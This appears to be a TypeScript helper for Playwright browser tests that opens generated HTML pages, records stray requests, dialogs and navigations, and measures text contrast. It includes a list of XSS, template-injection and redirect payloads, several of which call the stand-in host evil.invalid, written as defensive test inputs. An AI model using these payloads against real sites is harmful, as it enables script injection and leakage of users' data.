/** What tests of pages in a real browser share: where it is, what attacks the page, and how its colours are measured. */
import { existsSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import type { BrowserContext, Page } from 'playwright-core';

export const executablePath = ['/usr/bin/chromium', '/usr/bin/chromium-browser', '/usr/bin/google-chrome', '/usr/bin/google-chrome-stable'].find(
  (path) => existsSync(path),
);
export const why = executablePath === undefined ? ' (left out: no Chromium is installed, see test/setup.sh)' : '';

/** Each of these would set `window.owned`, ask for evil.invalid, or change the page. */
export const injections: readonly string[] = [
  '<script>window.owned=1</script>',
  '"><script src=https://evil.invalid/a.js></script>',
  "' onmouseover='window.owned=1' autofocus onfocus='window.owned=1",
  '<img src=x onerror="window.owned=1">',
  '<img src="https://evil.invalid/p.png">',
  '<svg onload="window.owned=1"><animate onbegin="window.owned=1" attributeName=x dur=1s>',
  '</style><style>body{background:url(https://evil.invalid/b.png)}*{display:none}</style>',
  '<div style="position:fixed;inset:0;background:url(https://evil.invalid/c.png)">',
  '<a href="javascript:window.owned=1">l</a>',
  '</title><script>window.owned=1</script>',
  '</pre></article></main><iframe srcdoc="<script>top.owned=1</script>"></iframe>',
  '<form action="https://evil.invalid"><button autofocus>x</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.invalid/">',
  '<base href="https://evil.invalid/"><link rel=stylesheet href=/x.css>',
  '<object data="https://evil.invalid/o"></object><embed src="https://evil.invalid/e">',
  '${window.owned=1}{{constructor.constructor("window.owned=1")()}}<%= 1 %>#{1}`',
  '--><!--<![CDATA[ ]]>&lt;script&gt;&#60;script&#62;\u0000\u001b[31m\u202e\u2028',
  'a'.repeat(300),
];

export const launching = {
  executablePath: executablePath!,
  args: ['--no-sandbox', '--disable-gpu', '--disable-background-networking', '--disable-sync', '--no-first-run', '--disable-component-update'],
};

export interface Box {
  readonly text: string;
  readonly ratio: number;
}

/** Contrast of every piece of text with what lies behind it. Runs in the page. */
export const contrasts = `(() => {
  const rgb = (text) => (text.match(/[\\d.]+/g) ?? []).map(Number);
  const light = ([r, g, b]) => [r, g, b].map((c) => c / 255).map((c) => (c <= 0.03928 ? c / 12.92 : ((c + 0.055) / 1.055) ** 2.4)).reduce((sum, c, i) => sum + c * [0.2126, 0.7152, 0.0722][i], 0);
  const behind = (element) => {
    for (let at = element; at; at = at.parentElement) {
      const colour = rgb(getComputedStyle(at).backgroundColor);
      if (colour.length === 3 || colour[3] > 0.99) return colour;
    }
    return [255, 255, 255];
  };
  const out = [];
  const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  for (let node = walker.nextNode(); node; node = walker.nextNode()) {
    if (!node.nodeValue.trim()) continue;
    const element = node.parentElement;
    const style = getComputedStyle(element);
    const back = behind(element);
    const front = rgb(style.color).slice(0, 3).map((c, i) => c * Number(style.opacity) + back[i] * (1 - Number(style.opacity)));
    const [a, b] = [light(front), light(back)].sort((x, y) => y - x);
    out.push({ text: element.className + ': ' + node.nodeValue.trim().slice(0, 40), ratio: (a + 0.05) / (b + 0.05) });
  }
  return out;
})()`;

/** Opens a page from a file. `events` are what it should not do: ask for something, show a dialog, fail, go elsewhere. */
export async function opened(folder: string, context: BrowserContext, name: string, text: string): Promise<{ page: Page; events: string[] }> {
  const file = join(folder, `${name}.html`);
  writeFileSync(file, text);
  const address = pathToFileURL(file).href;
  const page = await context.newPage();
  const events: string[] = [];
  page.on('request', (request) => request.url() !== address && events.push(`request ${request.url()}`));
  page.on('dialog', (dialog) => {
    events.push(`dialog ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('pageerror', (error) => events.push(`error ${error.message}`));
  page.on(
    'console',
    (message) => message.type() === 'error' && !message.text().includes('Content Security Policy') && events.push(`console ${message.text()}`),
  );
  page.on('framenavigated', (frame) => frame.url() !== address && events.push(`went to ${frame.url()}`));
  await page.goto(address, { waitUntil: 'load' });
  return { page, events };
}
